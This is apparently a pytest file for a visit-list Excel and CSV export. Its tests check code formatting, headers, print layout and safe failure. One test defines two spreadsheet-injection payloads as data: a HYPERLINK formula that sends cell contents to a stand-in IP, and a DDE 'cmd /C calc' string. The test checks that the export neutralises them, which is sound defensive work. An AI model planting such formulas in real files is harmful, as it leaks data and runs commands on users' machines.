"""The workbook of the visit lists (visit_lists.xlsx), read back from its XML as Excel would."""

from __future__ import annotations

import errno
import re
import time
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import polars as pl
import pytest
import xlsxwriter

from tests.visit_planner.helpers import short_staffed_run
from visit_planner.errors import PlanFileError
from visit_planner.export import ExportSummary, export_visit_lists, labels
from visit_planner.export.lists import LIST_COLUMNS, UNASSIGNED_COLUMNS
from visit_planner.export.workbook import Sheet, sheet_name, write_workbook
from visit_planner.export.workbook_sheets import UNASSIGNED_SHEET, workbook_sheets
from visit_planner.runs import RunReader

_NS = {
    "m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
}
_REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
_CODES = ("worker_id", "county_id", "township_id", "village_id", "grid_id", "household_id")


class _Book:
    """A workbook read back: each sheet's cells as ``(type, text)`` by row (type ``s`` for a
    string, ``n`` for a number, ``@`` for a string in a text-formatted cell), and its XML."""

    def __init__(self, path: Path) -> None:
        with zipfile.ZipFile(path) as z:
            book = ElementTree.fromstring(z.read("xl/workbook.xml"))
            rels = ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
            target = {r.get("Id"): r.get("Target") for r in rels}
            self.names = [s.get("name", "") for s in book.iterfind("m:sheets/m:sheet", _NS)]
            self.xml = {
                s.get("name", ""): z.read(f"xl/{target[s.get(_REL)]}").decode("utf-8")
                for s in book.iterfind("m:sheets/m:sheet", _NS)
            }
            self.core = z.read("docProps/core.xml").decode("utf-8")
            self.workbook = z.read("xl/workbook.xml").decode("utf-8")
            styles = ElementTree.fromstring(z.read("xl/styles.xml"))
        # The cell formats by index: the text format is Excel's built-in number format 49 (@).
        self.text_styles = {
            str(k)
            for k, xf in enumerate(styles.iterfind("m:cellXfs/m:xf", _NS))
            if xf.get("numFmtId") == "49"
        }
        # The cell formats that wrap their text (an alignment with wrapText).
        self.wrap_styles = {
            str(k)
            for k, xf in enumerate(styles.iterfind("m:cellXfs/m:xf", _NS))
            if any(a.get("wrapText") == "1" for a in xf.iterfind("m:alignment", _NS))
        }

    def rows(self, sheet: str) -> list[list[tuple[str, str] | None]]:
        """The sheet's rows, each a list of cells by column (None where blank)."""
        root = ElementTree.fromstring(self.xml[sheet])
        out = []
        for row in root.iterfind("m:sheetData/m:row", _NS):
            cells: list[tuple[str, str] | None] = []
            for c in row.iterfind("m:c", _NS):
                col = _column(c.get("r", ""))
                cells += [None] * (col - len(cells))
                if c.get("t") == "inlineStr":
                    kind = "@" if c.get("s") in self.text_styles else "s"
                    cells.append((kind, "".join(t.text or "" for t in c.iterfind(".//m:t", _NS))))
                else:
                    v = c.find("m:v", _NS)
                    cells.append(("n", v.text or "") if v is not None else None)
            out.append(cells)
        return out


def _column(ref: str) -> int:
    """0-based column of a cell reference (``P12`` → 15)."""
    letters = re.match(r"[A-Z]+", ref)
    assert letters is not None, ref
    n = 0
    for ch in letters.group(0):
        n = n * 26 + ord(ch) - 64
    return n - 1


def _table(book: _Book, sheet: str, header_row: int, columns: tuple[str, ...]) -> pl.DataFrame:
    """The data rows of ``sheet`` below ``header_row`` as text, with every cell's type in
    ``<column>_type``."""
    rows = book.rows(sheet)[header_row + 1 :]
    data: dict[str, list[str | None]] = {c: [] for c in columns}
    types: dict[str, list[str | None]] = {f"{c}_type": [] for c in columns}
    for row in rows:
        for c, cell in zip(columns, row + [None] * (len(columns) - len(row)), strict=True):
            data[c].append(None if cell is None else cell[1])
            types[f"{c}_type"].append(None if cell is None else cell[0])
    return pl.DataFrame({**data, **types}, schema=dict.fromkeys([*data, *types], pl.String))


def _csv(path: Path) -> pl.DataFrame:
    """A CSV of the export as text, as a spreadsheet should show it."""
    return pl.read_csv(path, infer_schema=False)


@pytest.fixture(scope="module")
def short_run(small_prefecture, tmp_path_factory: pytest.TempPathFactory) -> Path:  # type: ignore[no-untyped-def]
    """A run of three townships of three counties, one with no cadre (tier-1 households
    unassigned)."""
    return short_staffed_run(small_prefecture, tmp_path_factory)


@pytest.fixture(scope="module")
def exported(short_run: Path, tmp_path_factory: pytest.TempPathFactory) -> ExportSummary:
    return export_visit_lists(short_run, tmp_path_factory.mktemp("wb") / "lists", month="2026-11")


def test_every_row_of_the_csvs_is_in_the_workbook_with_codes_as_text(
    exported: ExportSummary,
) -> None:
    """Excel showed the CSV's 12-digit codes as 5.32601E+11 and destroyed them on saving:
    the workbook holds each row of both CSVs, every code and id a string equal to the CSV's,
    no household left out (the unassigned tier-1 households above all)."""
    book = _Book(exported.workbook)
    lists, unassigned = _csv(exported.csv), _csv(exported.unassigned_csv)
    counties = sorted(set(lists["county_id"]))
    assert len(counties) == 3  # the fixture's premise
    names = dict(lists.select("county_id", "county_name").unique().iter_rows())
    assert book.names == [UNASSIGNED_SHEET, *(f"{names[c]} {c}" for c in counties)]
    got = pl.concat(_table(book, name, 1, LIST_COLUMNS) for name in book.names[1:])
    assert got.height == lists.height == exported.households
    for column in _CODES:  # text, in text-formatted cells: a code typed there stays text
        assert got[column].to_list() == lists[column].to_list(), column
        assert set(got[f"{column}_type"]) == {"@"}, column
    left = _table(book, UNASSIGNED_SHEET, 1, UNASSIGNED_COLUMNS)
    assert unassigned.filter(pl.col("tier") == "1").height > 0  # the fixture's premise
    assert left.height == unassigned.height == exported.unassigned
    for column in ("household_id", "county_id", "township_id", "village_id", "grid_id"):
        assert left[column].to_list() == unassigned[column].to_list(), column
        assert set(left[f"{column}_type"]) == {"@"}, column
    tier1 = left.filter(pl.col("tier") == "一类户 tier 1")
    assert tier1.height == exported.unassigned_tier1 > 0
    # Numbers stay numbers.
    assert set(got["last_visit_days_type"].drop_nulls()) == {"n"}
    assert got["last_visit_days"].to_list() == lists["last_visit_days"].to_list()


def test_headers_and_values_are_in_words(exported: ExportSummary) -> None:
    book = _Book(exported.workbook)
    county = book.names[1]
    header = book.rows(county)[1]
    assert [cell[1] for cell in header if cell] == [
        "\n".join(labels.column_headers([c], "2026-11")[0]) for c in LIST_COLUMNS
    ]
    assert header[LIST_COLUMNS.index("household_id")] == ("@", "户编号\nhousehold")
    # The days since the last visit say the day they are counted to (it read '上次走访 (天前)
    # last visit, days ago', of no day): the month's data count them to the month before's end.
    assert header[LIST_COLUMNS.index("last_visit_days")] == (
        "@",
        "距上次走访天数 (截至 2026-10-31)\ndays since last visit, as of 2026-10-31",
    )
    left = book.rows(UNASSIGNED_SHEET)[1]
    assert [cell[1] for cell in left if cell] == [
        "\n".join(labels.column_headers([c], "2026-11")[0]) for c in UNASSIGNED_COLUMNS
    ]
    assert "距上次走访天数 (截至 2026-10-31)\ndays since last visit, as of 2026-10-31" in [
        cell[1] for cell in left if cell
    ]
    rows = pl.concat(_table(book, name, 1, LIST_COLUMNS) for name in book.names[1:])
    assert set(rows["tier"]) <= {"一类户 tier 1", "二类户 tier 2", "三类户 tier 3"}
    assert set(rows["role"]) <= {
        "基层干部 cadre",
        "村组干部 village official",
        "网格员 grid worker",
    }
    assert set(rows["reason_source"]) == {"分配情况 the assignment"}
    csv = _csv(exported.csv)
    assert rows["township_name"].to_list() == csv["township_name"].to_list()  # name and code
    assert rows["township_name"].null_count() == 0
    # The title says the month, the run and the county's households by tier.
    title = book.rows(county)[0][0]
    assert title is not None
    run_id = exported.run_id[:12]
    code = county.split(" ")[-1]
    n = csv.filter(pl.col("county_id") == code).height
    assert title[1].startswith(f"走访清单 Visit lists · 2026-11 · 方案 run {run_id} · ")
    assert f"({code}), 1 个乡镇 township: {n:,} 户 households (一类户 " in title[1]


def test_the_header_stays_in_view_with_a_filter(exported: ExportSummary) -> None:
    book = _Book(exported.workbook)
    for name in book.names:
        xml = book.xml[name]
        assert '<pane ySplit="2" topLeftCell="A3" activePane="bottomLeft" state="frozen"/>' in xml
        assert re.search(r'<autoFilter ref="A2:[A-Z]+\d+"/>', xml), name
        assert '<ignoredError sqref="A3:XFD' in xml and 'numberStoredAsText="1"' in xml, name


def test_every_printed_page_says_whose_it_is_and_which_page(exported: ExportSummary) -> None:
    """A county's sheet prints on tens of A4 pages: each page's footer names the workbook (the
    month and the run), the sheet and the page of how many, so that the pages of a county
    can be told apart and put back in order (before, a page had no footer at all)."""
    book = _Book(exported.workbook)
    run_id = exported.run_id[:12]
    footer = (
        f"<oddFooter>&amp;L走访清单 Visit lists · 2026-11 · {run_id} · &amp;A"
        "&amp;R第 &amp;P 页 / 共 &amp;N 页 · page &amp;P of &amp;N</oddFooter>"
    )
    for name in book.names:
        assert footer in book.xml[name], name
        setup = re.search(r"<pageSetup [^>]*/>", book.xml[name])
        assert setup is not None and 'paperSize="9"' in setup[0], name  # A4
        assert 'orientation="landscape"' in setup[0] and 'fitToHeight="0"' in setup[0], name


def test_the_reasons_are_shown_whole_not_cut_at_the_next_column(
    exported: ExportSummary,
) -> None:
    """The reasons of a household (three of them, in Chinese and English: 100 characters and
    more) were cut off at the next column, on screen and on paper; their column now wraps,
    and each row is as high as its reasons' lines: every reason readable, in print too."""
    book = _Book(exported.workbook)
    county = book.names[1]
    xml = book.xml[county]
    column = LIST_COLUMNS.index("reasons") + 1
    col = re.search(rf'<col min="{column}" max="{column}" width="([\d.]+)" style="(\d+)"', xml)
    assert col is not None
    assert float(col[1]) <= 49 and col[2] in book.wrap_styles
    reasons = [row[column - 1] for row in book.rows(county)[2:]]
    heights = dict(re.findall(r'<row r="(\d+)"[^>]* ht="([\d.]+)"', xml))
    for r, cell in enumerate(reasons, start=3):
        assert cell is not None
        chars = len(cell[1]) + len(re.findall("[\u3000-\u9fff\uff00-\uffef]", cell[1]))
        if chars > 48:  # more than one line: the row holds them all
            assert float(heights[str(r)]) >= 15 * -(-chars // 48), (r, cell[1])
    assert any(float(heights.get(str(r), 15)) > 15 for r in range(3, len(reasons) + 3))


def test_the_same_run_gives_the_same_bytes(
    short_run: Path, exported: ExportSummary, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Re-exporting the same run, on another day and in another time zone, gives the same
    workbook: its creation time is the run's, not the clock's."""
    monkeypatch.setenv("TZ", "Asia/Shanghai")
    time.tzset()
    try:
        again = export_visit_lists(short_run, tmp_path / "文山 清单", month="2026-11")
    finally:
        monkeypatch.undo()
        time.tzset()
    assert again.workbook.read_bytes() == exported.workbook.read_bytes()
    created = RunReader(short_run).manifest.created_at
    stamp = datetime.fromisoformat(created).astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert f">{stamp}</dcterms:created>" in _Book(again.workbook).core


def test_a_run_no_longer_current_says_so_on_every_sheet(short_run: Path, tmp_path: Path) -> None:
    got = export_visit_lists(short_run, tmp_path / "old", month="2026-11", superseded_by="x (v2)")
    book = _Book(got.workbook)
    run_id = got.run_id[:12]
    for name in book.names:
        notice = book.rows(name)[1][0]
        assert notice is not None and notice[1].startswith(
            f"本清单所属方案 {run_id} 已不是本月当前方案 (当前方案为 x (v2)), 请勿按本清单走访 / "
            f"run {run_id} is no longer"
        ), name
        assert '<pane ySplit="3" topLeftCell="A4"' in book.xml[name]  # notice and header stay
    rows = sum(len(book.rows(name)) - 3 for name in book.names[1:])
    assert rows == got.households


def test_a_county_past_a_sheets_rows_goes_on_to_the_next(
    exported: ExportSummary, tmp_path: Path
) -> None:
    """A county with more rows than a worksheet holds is continued on further sheets: no
    household is left out (Excel's limit is 1,048,576 rows, smaller here)."""
    lists = pl.read_csv(exported.csv, schema_overrides={c: pl.String for c in _CODES})
    unassigned = pl.read_csv(
        exported.unassigned_csv, schema_overrides={c: pl.String for c in UNASSIGNED_COLUMNS}
    ).with_columns(pl.col("tier").cast(pl.Int8))
    big = lists["county_id"].value_counts().sort("count")["county_id"][-1]
    n = lists.filter(pl.col("county_id") == big).height
    sheets = workbook_sheets(
        lists, unassigned, month="2026-11", run_id="r", stale=None, max_rows=n // 2 + 2
    )
    parts = [s for s in sheets if s.name.split(" (")[0].endswith(big)]
    sizes = [n // 2, n // 2, 1] if n % 2 else [n // 2, n // 2]
    assert [s.frame.height for s in parts] == sizes
    assert parts[1].name.endswith(f"{big} (2)")
    assert "(第 2/" in parts[1].notes[0][0] and "part 2 of" in parts[1].notes[0][0]
    assert sum(s.frame.height for s in sheets[1:]) == lists.height
    path = tmp_path / "split.xlsx"
    write_workbook(path, sheets, title="t", created=datetime(2026, 1, 1, tzinfo=UTC))
    assert _Book(path).names == [s.name for s in sheets]


def test_a_sheet_past_excels_rows_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from visit_planner.export import workbook

    monkeypatch.setattr(workbook, "MAX_ROWS", 4)
    sheet = Sheet("x", (("t", False),), (("a", "a"),), pl.DataFrame({"a": ["1"] * 3}))
    with pytest.raises(ValueError, match="x: 3 rows do not fit a worksheet"):
        write_workbook(
            tmp_path / "x.xlsx", [sheet], title="t", created=datetime(2026, 1, 1, tzinfo=UTC)
        )
    assert not (tmp_path / "x.xlsx").exists()


def test_columns_are_as_wide_as_their_text(tmp_path: Path) -> None:
    """A Chinese character takes two columns' width, a Latin one one; the header's longer
    line counts; a sentence wider than 48 wraps within 48, its row as high as its lines."""
    frame = pl.DataFrame({
        "name": ["开化街道开化街道", "x"], "code": ["532601001001", None],
        "text": ["a" * 200, "b"], "n": [1, 22],
    })  # fmt: skip
    headers = (("村", "village"), ("村编号", "village code"), ("事由", "reasons"), ("天", "days"))
    path = tmp_path / "w.xlsx"
    write_workbook(
        path, [Sheet("s", (), headers, frame)], title="t", created=datetime(2026, 1, 1, tzinfo=UTC)
    )
    book = _Book(path)
    xml = book.xml["s"]
    widths = [float(w) for w in re.findall(r'<col min="\d+" max="\d+" width="([\d.]+)"', xml)]
    assert [round(w) for w in widths] == [18 + 1, 14 + 1, 48 + 1, 6 + 1]  # Excel adds padding
    styles = re.findall(r'<col min="\d+" max="\d+" width="[\d.]+" style="(\d+)"', xml)
    assert [s in book.wrap_styles for s in styles] == [False, False, True, False]
    # 200 characters in lines of 48 less padding, a tenth to spare: 5 lines of 15 points.
    heights = {r: h for r, h in re.findall(r'<row r="(\d+)"[^>]* ht="([\d.]+)"', xml)}
    assert heights == {"1": "30.75", "2": "75"}  # the header's two lines; the short row at 15


def test_a_row_is_never_higher_than_excel_allows() -> None:
    """A wrapped cell of thousands of characters (a failed township's error, a long
    shortfall) makes its row 27 lines high, 405 points: Excel refuses rows over 409."""
    from visit_planner.export.workbook import row_heights

    frame = pl.DataFrame({"a": ["x" * 5000, "y" * 50, None], "b": ["甲" * 30, None, None]})
    assert row_heights(frame, ["a", "b"]) == [405.0, 30.0, 15.0]
    assert row_heights(frame, []) == [15.0, 15.0, 15.0]


def test_sheet_names_are_ones_excel_accepts() -> None:
    assert sheet_name("文山市 532601") == "文山市 532601"
    assert sheet_name("a/b:c[d]*?\\e") == "a b c d    e"
    assert sheet_name("'quoted'") == "quoted"
    assert len(sheet_name("长" * 40)) == 31
    assert sheet_name("[]") == "Sheet"


def test_a_failed_workbook_leaves_the_earlier_export(
    short_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A disk that fills up while the workbook is zipped: the message names the directory and
    why, no traceback; the earlier export stays whole, nothing of the new one beside it."""
    out = tmp_path / "lists"
    export_visit_lists(short_run, out, month="2026-11")
    before = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    def full(self: xlsxwriter.Workbook) -> None:  # the sheets flushed, then the zip fails
        for sheet in self.worksheets():
            sheet._opt_close()
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(xlsxwriter.Workbook, "_store_workbook", full)
    with pytest.raises(PlanFileError) as refused:
        export_visit_lists(short_run, out, month="2026-11", overwrite=True)
    assert str(refused.value) == (
        f"{out}: 无法写入走访清单 (cannot write the visit lists: No space left on device)"
    )
    monkeypatch.undo()
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before


EVIL_GRID = '=HYPERLINK("http://198.51.100.9/?d="&A2,"点击查看")'
EVIL_VILLAGE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_text_from_the_inputs_that_opens_as_a_formula_is_never_run(  # type: ignore[no-untyped-def]
    small_prefecture, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """A grid code and a village name as the contracts accept them (any non-blank text) but
    written as spreadsheet formulas: the CSVs a clerk opens in Excel give them a leading
    ``'`` (text, never run), every other cell as it was; the workbook has them as plain
    strings (``write_string``: no formula element anywhere)."""
    from tests.visit_planner.helpers import assign_run, short_staffed, write_inputs

    pref = short_staffed(
        small_prefecture,
        {"532623001": {}, "532624001": {"cadre": 0, "village_official": 1, "grid_worker": 1}},
    )
    grid = pref.households.filter(pl.col("township_id") == "532623001")["grid_id"][0]
    village = pref.households.filter(pl.col("township_id") == "532624001")["village_id"][0]
    regrid = pl.when(pl.col("grid_id") == grid).then(pl.lit(EVIL_GRID)).otherwise("grid_id")
    pref = replace(
        pref,
        households=pref.households.with_columns(grid_id=regrid),
        workers=pref.workers.with_columns(grid_id=regrid),
        places=pref.places.with_columns(
            name_zh=pl.when(pl.col("code") == village).then(pl.lit(EVIL_VILLAGE))
            .otherwise("name_zh")
        ),
    )  # fmt: skip
    inputs = write_inputs(pref, tmp_path_factory.mktemp("evil_inputs"), places=True)
    run = assign_run(inputs, tmp_path_factory.mktemp("evil_run") / "run")
    summary = export_visit_lists(run, tmp_path_factory.mktemp("evil") / "lists", month="2026-11")

    lists, unassigned = _csv(summary.csv), _csv(summary.unassigned_csv)
    assert (lists["grid_id"] == f"'{EVIL_GRID}").sum() > 0
    assert (unassigned["village_name"] == f"'{EVIL_VILLAGE}").sum() > 0
    for frame in (lists, unassigned):
        for name in frame.columns:
            assert not frame[name].str.contains(r"^[=+\-@]").any(), name
    plan = pl.read_parquet(run / "plan.parquet").filter(pl.col("worker_id").is_not_null())
    assert sorted(lists["household_id"]) == sorted(plan["household_id"])  # ids unchanged
    assert (
        lists.filter(pl.col("grid_id") != f"'{EVIL_GRID}")["grid_id"].str.starts_with("5326").all()
    )

    book = _Book(summary.workbook)
    assert not any("<f>" in xml or "<f " in xml for xml in book.xml.values())
    cells = {cell[1] for sheet in book.names for row in book.rows(sheet) for cell in row if cell}
    assert EVIL_GRID in cells and EVIL_VILLAGE in cells


def test_a_long_header_wraps_instead_of_widening_its_column(tmp_path: Path) -> None:
    """A header as long as ``距上次走访天数 (截至 2026-11-30)`` made a column of two-digit
    numbers 41 wide, and a county sheet's 16 columns printed at 47 % of their size to fit an
    A4 page's width: the header now wraps within the width its values need (its longest word
    at least), and the header row is as high as the tallest header's lines."""
    frame = pl.DataFrame({"days": [3, 120], "code": ["532601001", None]})
    headers = (
        ("距上次走访天数 (截至 2026-11-30)", "days since last visit (as of 2026-11-30)"),
        ("乡镇编号", "township code"),
    )
    path = tmp_path / "w.xlsx"
    write_workbook(
        path, [Sheet("s", (), headers, frame)], title="t", created=datetime(2026, 1, 1, tzinfo=UTC)
    )
    xml = _Book(path).xml["s"]
    widths = [float(w) for w in re.findall(r'<col min="\d+" max="\d+" width="([\d.]+)"', xml)]
    # "2026-11-30)" (11) is the longest word of the first header; the codes (9) the second's.
    assert [round(w) for w in widths] == [11 + 2 + 1, 9 + 2 + 1]  # Excel adds padding
    # 距上次走访天 / 数 (截至 / 2026-11-30) and days since / last visit / (as of / 2026-11-30):
    # seven lines in a width of 13, each 15.5 points.
    assert re.search(r'<row r="1" ht="108.75" customHeight="1"', xml)


def test_a_county_sheet_prints_a_page_wide_on_landscape_a4(exported: ExportSummary) -> None:
    """A township clerk prints a county's sheet: A4 landscape, every column on one page's
    width and as many pages down as it takes (fitToHeight 0), the header repeated on each.
    Its columns fit that width at 52 % of their size or more (the print scale Excel and WPS
    choose: the page's width inside its margins over the columns' widths, 7 pixels a
    character and 5 of padding, at 96 pixels an inch); it was 47 % and less before."""
    book = _Book(exported.workbook)
    for name in book.names[1:]:
        xml = book.xml[name]
        assert '<pageSetUpPr fitToPage="1"/>' in xml, name
        setup = re.search(r"<pageSetup [^>]*/>", xml)
        assert setup is not None, name
        assert 'paperSize="9"' in setup[0] and 'orientation="landscape"' in setup[0], name
        assert 'fitToHeight="0"' in setup[0] and "fitToWidth" not in setup[0], name  # 1 wide
        margins = re.search(r'<pageMargins left="([\d.]+)" right="([\d.]+)"', xml)
        assert margins is not None, name
        inches = 297 / 25.4 - float(margins[1]) - float(margins[2])
        cols = re.findall(r'<col min="(\d+)" max="(\d+)" width="([\d.]+)"', xml)
        pixels = sum((int(b) - int(a) + 1) * (int(float(w)) * 7 + 5) for a, b, w in cols)
        assert sum(int(b) - int(a) + 1 for a, b, _ in cols) == len(LIST_COLUMNS), name
        assert inches * 96 / pixels >= 0.52, (name, inches * 96 / pixels)
    titles = re.findall(r'<definedName name="_xlnm.Print_Titles"[^>]*>([^<]*)<', book.workbook)
    assert len(titles) == len(book.names) and all(t.endswith("!$2:$2") for t in titles), titles
